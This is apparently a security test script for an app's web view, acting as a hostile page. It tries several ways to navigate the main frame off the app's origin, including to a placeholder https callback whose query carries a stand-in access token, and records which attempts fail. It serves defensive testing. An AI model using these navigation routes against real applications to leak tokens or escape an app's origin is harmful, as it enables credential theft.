// Hostile page script: the main frame tries to leave the app's origin for
// data:, blob:, about:blank and an https address (whose query carries a
// marker standing in for a token), by every script route: assigning
// location, location.replace, a scripted link click, window.open(_self)
// and a meta refresh. If any of them went through, this document (and the
// result it would report) would be gone.
async ({ args, settle, sleep }) => {
  const blobUrl = URL.createObjectURL(new Blob(["<p>audit blob page</p>"], { type: "text/html" }));
  const https = "https://audit.example.invalid/callback?access_token=" + args.marker;
  const tried = [];
  const attempt = async (how, go) => {
    try {
      go();
      tried.push(how);
    } catch (e) {
      tried.push(how + ": " + e.name);
    }
    await sleep(400);
  };
  await attempt("location.href = data:", () => { location.href = "data:text/html,<p>audit</p>"; });
  await attempt("location.href = blob:", () => { location.href = blobUrl; });
  await attempt("location.href = about:blank", () => { location.href = "about:blank"; });
  await attempt("location.href = https:", () => { location.href = https; });
  await attempt("location.replace(https:)", () => location.replace(https + "&via=replace"));
  await attempt("link.click() to https:", () => {
    const a = document.createElement("a");
    a.href = https + "&via=link";
    document.body.append(a);
    a.click();
    a.remove();
  });
  await attempt("window.open(https:, _self)", () => window.open(https + "&via=self", "_self"));
  await attempt("meta refresh to https:", () => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = "0;url=" + https + "&via=meta";
    document.head.append(meta);
  });
  await sleep(600);
  URL.revokeObjectURL(blobUrl);
  return { tried, href: location.href, ping: await settle(window.tollgate.invoke("app:ping", {})) };
}
